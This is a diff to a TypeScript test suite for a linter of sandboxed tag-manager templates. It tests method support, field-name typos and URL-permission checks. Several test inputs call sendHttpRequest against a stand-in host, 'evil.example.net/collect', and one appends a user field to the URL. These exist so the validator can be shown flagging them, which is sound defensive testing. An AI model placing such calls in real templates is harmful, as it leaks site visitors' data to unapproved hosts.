@@ -21,12 +21,15 @@ const SEND_HTTP: PermissionInstance = {
   isRequired: true,
 };
 
+/** One text field, `x`. */
+const FIELDS = [{ type: 'TEXT', name: 'x', displayName: 'X', simpleValueType: true }];
+
 function tplWith(code: string, permissions: PermissionInstance[] = [SEND_HTTP]): string {
-  return writeTpl(serverTpl(code, permissions, {}, 'Check test'));
+  return writeTpl({ ...serverTpl(code, permissions, {}, 'Check test'), parameters: FIELDS });
 }
 
 // The code section of tplWith() starts on this line of the file.
-const CODE_LINE = 27;
+const CODE_LINE = 34;
 
 const check = (text: string) => checkTpl(text, 'x.tpl').map(formatDiagnostic);
 
@@ -66,10 +69,11 @@ describe('checkTpl', () => {
     ]);
   });
 
-  test('native methods outside the documented list and object shorthands are warnings', () => {
-    const code = "const s = 'abc';\nconst ok = s.startsWith('a');\nconst o = { s };";
+  test('a native method the sandbox lacks is an error; object shorthands are warnings', () => {
+    const code =
+      "const s = 'abc';\nconst ok = s.startsWith('a') && s.includes('b');\nconst o = { s };";
     expect(check(tplWith(code))).toEqual([
-      `x.tpl:${CODE_LINE + 1}:14: warning: .startsWith() is not one of the sandbox's native methods; use s.indexOf(prefix) === 0`,
+      `x.tpl:${CODE_LINE + 1}:35: .includes() is not one of the sandbox's native methods; use indexOf(x) !== -1`,
       `x.tpl:${CODE_LINE + 2}:13: warning: shorthand properties ({ a }) are not among the sandbox's documented ES6 features; write { a: a }`,
     ]);
   });
@@ -87,6 +91,36 @@ describe('checkTpl', () => {
       "const sendHttpRequest = require('sendHttpRequest');\nsendHttpRequest('https://evil.example.net/x', () => {});";
     expect(check(tplWith(code))).toEqual([
       `x.tpl:${CODE_LINE + 1}:17: sendHttpRequest('https://evil.example.net/x') calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
+    ]);
+  });
+
+  test('follows a URL through const bindings and + with a constant prefix', () => {
+    const code = [
+      "const sendHttpRequest = require('sendHttpRequest');",
+      "const URL = 'https://evil.example.net/collect';",
+      'sendHttpRequest(URL, () => {});',
+      "const BASE = 'https://evil.example.net/';",
+      "const path = 'e/' + data.x;",
+      "sendHttpRequest(BASE + path + '?a=1', () => {});",
+      "const GOOD = 'https://api.example.com/';",
+      'sendHttpRequest(GOOD + data.x, () => {});',
+      "let moved = 'https://api.example.com/';",
+      "moved = 'https://evil.example.net/';",
+      'sendHttpRequest(moved, () => {});',
+    ].join('\n');
+    expect(check(tplWith(code))).toEqual([
+      `x.tpl:${CODE_LINE + 2}:17: sendHttpRequest('https://evil.example.net/collect') calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
+      `x.tpl:${CODE_LINE + 5}:17: sendHttpRequest('https://evil.example.net/e/' + ...) calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
+      `x.tpl:${CODE_LINE + 10}:17: warning: sendHttpRequest: the URL is only known at run time, so send_http cannot be checked for it here; start it with a constant (const BASE = 'https://api.example.com/'; BASE + path) to have it checked`,
+    ]);
+  });
+
+  test('data.X that is not a field: an error when called, a warning when read', () => {
+    const code = "if (data.y === 'a') data.gtmOnSucess();\nconst z = data['x'] + data.gtmOnFailur;";
+    expect(check(tplWith(code))).toEqual([
+      `x.tpl:${CODE_LINE}:10: warning: data.y is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.x? (GTM gives undefined for it)`,
+      `x.tpl:${CODE_LINE}:26: data.gtmOnSucess is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.gtmOnSuccess?`,
+      `x.tpl:${CODE_LINE + 1}:28: data.gtmOnFailur is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.gtmOnFailure?`,
     ]);
   });
 
